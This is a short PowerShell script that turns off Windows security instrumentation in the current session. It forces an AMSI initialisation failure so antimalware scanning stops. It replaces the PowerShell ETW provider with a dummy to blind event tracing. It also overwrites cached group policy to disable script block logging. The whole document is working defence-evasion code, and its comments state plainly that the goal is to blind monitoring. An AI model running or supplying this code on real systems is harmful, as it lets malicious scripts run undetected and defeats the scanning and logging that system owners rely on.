[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)
# blind the PowerShell ETW provider for this process
$p = [Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider', 'NonPublic,Static')
$e = New-Object System.Diagnostics.Eventing.EventProvider -ArgumentList @([Guid]::NewGuid())
$p.SetValue($null, $e)
# no script block logging for the rest of the session
$gp = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings', 'NonPublic,Static').GetValue($null)
$gp['ScriptBlockLogging'] = @{ EnableScriptBlockLogging = 0; EnableScriptBlockInvocationLogging = 0 }
